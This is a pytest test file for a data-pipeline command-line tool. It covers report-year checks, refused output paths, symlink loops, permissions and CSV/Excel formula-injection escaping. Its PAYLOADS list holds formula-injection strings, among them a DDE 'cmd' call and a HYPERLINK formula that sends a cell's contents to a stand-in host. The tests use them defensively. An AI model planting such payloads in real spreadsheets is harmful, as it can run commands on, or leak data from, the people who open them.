"""Odd paths, report years, symlink loops, permissions and formula injection.

Command-line cases run in-process (click's runner) and check the exit code, that
the message is one plain line naming the path or value, that no exception escaped
(a traceback) and that nothing was written where it must not be.
"""

from __future__ import annotations

import builtins
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from impact import build as B
from impact import config
from impact.cli import cli
from impact.errors import ImpactError, InputError
from impact.io import FORMULA_TRIGGERS, check_output_dir, neutralise_cell, read_table, write_csv


def _run(*args: str):
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    return result


def _files(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file()] if folder.exists() else []


# --------------------------------------------------------------------------- report years


@pytest.fixture(scope="module")
def small_data(tmp_path_factory) -> tuple[Path, Path]:
    from conftest import make_raw

    root = tmp_path_factory.mktemp("small_data")
    raw = make_raw(root)
    processed = root / "processed"
    B.build(raw, processed)
    return raw, processed


@pytest.mark.parametrize("year", ["2099", "-5", "0", "1999"])
def test_report_year_outside_the_stated_range(tmp_path, year):
    reports = tmp_path / "reports"
    result = _run("report", "county", "景谷县", "--year", year, "--reports-dir", str(reports))
    assert result.exit_code == 2 and f"{year} is not in the range 2000<=x<=2035" in result.output
    assert _files(reports) == []


@pytest.mark.parametrize("command", [["county", "景谷县"], ["all", "--counties", "景谷县"], ["province"]])
def test_report_year_the_data_do_not_cover(tmp_path, small_data, command):
    raw, processed = small_data  # the small tree's only dated rows are 2024 cost-ledger months
    reports = tmp_path / "reports"
    result = _run("report", *command, "--year", "2023", "--reports-dir", str(reports), "--data-dir", str(raw),
                  "--processed-dir", str(processed))
    assert result.exit_code == 2
    assert "--year 2023: the data hold no figures for 2023 (they cover 2024)" in result.output
    assert _files(reports) == []


# --------------------------------------------------------------------------- output folders


def test_report_out_inside_data_raw_is_refused():
    before = B.raw_hashes()
    result = _run("report", "county", "景谷县", "--year", "2024", "--out", str(config.DATA_RAW / "evil"))
    assert result.exit_code == 2 and "refusing to write inside data/raw/" in result.output
    assert not (config.DATA_RAW / "evil").exists() and B.raw_hashes() == before


def test_report_out_through_a_symlink_to_data_raw_is_refused(tmp_path):
    (tmp_path / "link").symlink_to(config.DATA_RAW)
    result = _run("report", "all", "--year", "2024", "--reports-dir", str(tmp_path / "link" / "evil"))
    assert result.exit_code == 2 and "data/raw/" in result.output
    assert not (config.DATA_RAW / "evil").exists()


def test_report_out_below_a_file(tmp_path):
    (tmp_path / "notes.txt").write_text("x", encoding="utf-8")
    result = _run("report", "county", "景谷县", "--year", "2024", "--out", str(tmp_path / "notes.txt" / "out"))
    assert result.exit_code == 2 and "notes.txt is a file, so no folder can be made below it" in result.output


def test_report_out_is_a_file(tmp_path):
    (tmp_path / "out").write_text("x", encoding="utf-8")
    result = _run("report", "province", "--year", "2024", "--reports-dir", str(tmp_path / "out"))
    assert result.exit_code == 2 and "is a file" in result.output


def test_report_out_that_cannot_be_created():
    result = _run("report", "index", "--year", "2024", "--reports-dir", "/proc/impact-reports")
    assert result.exit_code == 2 and "cannot write there" in result.output


def test_report_out_in_a_symlink_loop(tmp_path):
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    result = _run("report", "index", "--year", "2024", "--reports-dir", str(tmp_path / "loop" / "x"))
    assert result.exit_code == 2 and "--reports-dir" in result.output


def test_check_output_dir_accepts_a_new_folder_and_creates_nothing(tmp_path):
    assert check_output_dir(tmp_path / "a" / "b") == (tmp_path / "a" / "b").resolve()
    assert list(tmp_path.iterdir()) == []


def test_build_out_is_a_file(tmp_path, raw_tree):
    (tmp_path / "processed").write_text("x", encoding="utf-8")
    result = _run("data", "build", "--raw", str(raw_tree), "--out", str(tmp_path / "processed"))
    assert result.exit_code == 2 and "is a file" in result.output


def test_build_out_inside_raw(raw_tree):
    result = _run("data", "build", "--raw", str(raw_tree), "--out", str(raw_tree / "processed"))
    assert result.exit_code == 2 and "inside the raw data folder" in result.output
    assert not (raw_tree / "processed").exists()


def test_build_out_where_nothing_can_be_written(raw_tree):
    result = _run("data", "build", "--raw", str(raw_tree), "--out", "/proc/impact-processed")
    assert result.exit_code == 2 and "/proc" in result.output


# --------------------------------------------------------------------------- symlink loops and permissions


def test_symlink_loop_among_the_raw_inputs(tmp_path, raw_tree):
    sim = raw_tree / "simulated"
    (sim / "cost_ledger_simulated.parquet").unlink()
    (sim / "cost_ledger_simulated.csv").symlink_to(sim / "cost_ledger_simulated.csv")
    out = tmp_path / "processed"
    result = _run("data", "build", "--raw", str(raw_tree), "--out", str(out))
    assert result.exit_code != 0
    assert "simulated/cost_ledger_simulated.csv: found 'a symlink loop'" in result.output
    assert not out.exists()


def test_symlink_loop_in_the_raw_manifest_check(raw_tree):
    (raw_tree / "registry" / "loop.csv").symlink_to(raw_tree / "registry" / "loop.csv")
    with pytest.raises(InputError, match="loop.csv: found 'a symlink loop'"):
        B.raw_hashes(raw_tree)


def test_unreadable_input_is_named(tmp_path, raw_tree, monkeypatch):
    real_open = builtins.open

    def denying(file, *args, **kwargs):
        if str(file).endswith("facts.csv"):
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    import impact.digest

    monkeypatch.setattr(impact.digest, "open", denying, raising=False)  # the one hasher
    with pytest.raises(InputError, match="registry/facts.csv: found 'Permission denied'"):
        B.build(raw_tree, tmp_path / "processed")
    assert not (tmp_path / "processed").exists()


def test_unreadable_file_to_read(tmp_path, monkeypatch):
    p = tmp_path / "ledger.csv"
    p.write_text("a,b\n1,2\n", encoding="utf-8")
    monkeypatch.setattr("os.access", lambda *a, **k: False)
    with pytest.raises(InputError, match="without read permission"):
        read_table(p)


# --------------------------------------------------------------------------- formula injection

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "＝1+1", " =1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_cell_makes_formulas_text(payload):
    safe = neutralise_cell(payload)
    assert safe == "'" + payload


@pytest.mark.parametrize("value", ["景谷县", "a=b", "E1", "", None, 12, -5, -2.5, 0.0, True])
def test_neutralise_cell_leaves_other_values(value):
    assert neutralise_cell(value) is value


def test_write_csv_neutralises_text_cells(tmp_path):
    df = pd.DataFrame({"program": PAYLOADS, "funds": range(len(PAYLOADS)), "=bad_header": "x"})
    df.loc[0, "funds"] = -3
    p = write_csv(df, tmp_path / "out.csv")
    back = pd.read_csv(p, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert back["program"].tolist() == ["'" + v for v in PAYLOADS]
    assert all(v.lstrip(" \u3000")[:1] not in FORMULA_TRIGGERS for v in back["program"])
    assert back["funds"].iloc[0] == "-3"  # numbers stay numbers
    assert back.columns[-1] == "'=bad_header"


def test_write_csv_refuses_data_raw():
    with pytest.raises(ImpactError, match="data/raw/ is immutable"):
        write_csv(pd.DataFrame({"a": [1]}), config.DATA_RAW / "x.csv")


def test_report_workbook_cells_are_not_formulas(tmp_path):
    from impact.report.excel import write_workbook

    p = tmp_path / "r.xlsx"
    write_workbook({"programs": pd.DataFrame({"program": PAYLOADS})}, p, title="t")
    wb = openpyxl.load_workbook(p)
    from openpyxl.utils.escape import unescape  # OOXML's _x000D_ for a carriage return (Excel decodes it)

    cells = [c for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row
             if isinstance(c.value, str) and unescape(c.value) in PAYLOADS]
    assert [c.data_type for c in cells] == ["s"] * len(PAYLOADS)
    # text stays as written, shown and kept as text by the cell's quote-prefix style
    assert all(c.quotePrefix for c in cells if neutralise_cell(unescape(c.value)) != unescape(c.value))


def test_balance_workbook_cells_are_not_formulas(tmp_path):
    from impact.estimate.balance import export_table

    p = export_table(pd.DataFrame({"variable": PAYLOADS, "smd": 0.1}), tmp_path / "b.xlsx")
    ws = openpyxl.load_workbook(p)["balance"]
    assert [c.data_type for c in ws["A"][1:]] == ["s"] * len(PAYLOADS)
    assert [c.value for c in ws["A"][1:]] == ["'" + v for v in PAYLOADS]
